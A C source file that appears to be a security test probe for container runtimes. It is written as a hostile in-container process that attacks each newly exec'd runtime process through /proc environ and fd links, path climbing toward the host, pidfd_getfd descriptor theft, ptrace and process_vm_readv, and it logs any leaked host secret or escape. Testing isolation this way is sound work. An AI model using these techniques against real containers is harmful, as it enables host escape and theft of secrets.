/*
 * tracer: a hostile process of a container. Again and again it tries on every newcomer of its pid namespace all that looks into or
 * takes from a process, and writes down what it got of one that still is the runtime: "what<TAB>pid<TAB>value" lines. A newcomer is
 * the runtime's as long as its executable is not the program that the exec is for.
 *
 * Its arguments: the program that the execs run, the file to write to, the path of a file of the host, and a text that only the host's
 * environment and memory hold.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *program, *marker, *secret;
static int output;

static void tell(const char *what, int pid, const char *value) { dprintf(output, "%s\t%d\t%s\n", what, pid, value); }

static int is_program(const char *path) { return !strcmp(path, program); }

/* The target of a link of the process's directory; 0 where it is denied or gone. */
static int link_of(int pid, const char *name, char *target, size_t size)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    ssize_t length = readlink(path, target, size - 1);
    if (length < 0)
        return 0;
    target[length] = '\0';
    return 1;
}

/* Whether a directory leads to the host's tree, by itself or up from it. */
static void try_to_climb(int pid, const char *directory)
{
    char path[600];
    snprintf(path, sizeof path, "%s%s", directory, marker);
    if (!access(path, F_OK))
        tell("escape", pid, directory);
    snprintf(path, sizeof path, "%s/../../../../../../../../../../../..%s", directory, marker);
    if (!access(path, F_OK))
        tell("escape", pid, directory);
}

static void try_links(int pid)
{
    char target[512], path[64];
    static const char *names[] = { "exe", "cwd", "root" };
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
        try_to_climb(pid, path);
        if (link_of(pid, names[i], target, sizeof target) && i == 0 && !is_program(target))
            tell("exe", pid, target);
    }
    for (int fd = 0; fd < 40; fd++) {
        char name[16];
        snprintf(name, sizeof name, "fd/%d", fd);
        if (!link_of(pid, name, target, sizeof target) || fd < 3)
            continue;
        tell(name, pid, target);
        snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
        try_to_climb(pid, path);
    }
}

/* Every file that needs the right to trace; what is read of the program itself says its own path and tells nothing. */
static void try_file(int pid, const char *name)
{
    char path[64], text[8192];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    ssize_t length = read(fd, text, sizeof text - 1);
    close(fd);
    if (length <= 0)
        return;
    text[length] = '\0';
    for (ssize_t i = 0; i < length; i++)
        if (!text[i])
            text[i] = '\n';
    if (strstr(text, secret))
        tell(name, pid, secret);
}

/* A descriptor above stdio is the runtime's: the program gets none. */
static void try_descriptors(int pid)
{
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (pidfd < 0)
        return;
    for (int fd = 3; fd < 24; fd++) {
        int got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        if (got < 0)
            continue;
        char target[256];
        char name[32];
        snprintf(name, sizeof name, "fd/%d", got);
        if (link_of(getpid(), name, target, sizeof target))
            tell("pidfd_getfd", pid, target);
        snprintf(name, sizeof name, "/proc/self/fd/%d", got);
        try_to_climb(pid, name);
        close(got);
    }
    close(pidfd);
}

static void try_trace(int pid)
{
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
        return;
    char target[512] = "?";
    int is_runtime = link_of(pid, "exe", target, sizeof target) && !is_program(target);
    if (!is_runtime && !strcmp(target, "?"))
        try_descriptors(pid);
    if (is_runtime) {
        tell("ptrace", pid, target);
        try_links(pid);
        try_descriptors(pid);
    }
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    int status;
    if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
        ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void attack(int pid)
{
    try_descriptors(pid);
    try_links(pid);
    try_file(pid, "maps");
    try_file(pid, "environ");
    try_file(pid, "cmdline");
    char byte;
    struct iovec local = { &byte, 1 }, remote = { (void *)0x400000, 1 };
    char target[512];
    if (process_vm_readv(pid, &local, 1, &remote, 1, 0) == 1 && link_of(pid, "exe", target, sizeof target) && !is_program(target))
        tell("process_vm_readv", pid, target);
    try_trace(pid);
}

int main(int argc, char **argv)
{
    if (argc < 5)
        return 1;
    program = argv[1];
    output = open(argv[2], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    marker = argv[3];
    secret = argv[4];
    int self = getpid(), last = self;
    dprintf(output, "ready\n");
    for (;;) {
        /* Pids are given out in order, so the next ones are known before they are there. */
        for (int pid = last + 1; pid < last + 50; pid++) {
            if (kill(pid, 0) < 0)
                continue;
            for (int turn = 0; turn < 400 && kill(pid, 0) == 0; turn++)
                attack(pid);
            last = pid;
            break;
        }
        while (waitpid(-1, NULL, WNOHANG | __WALL) > 0)
            ;
    }
}
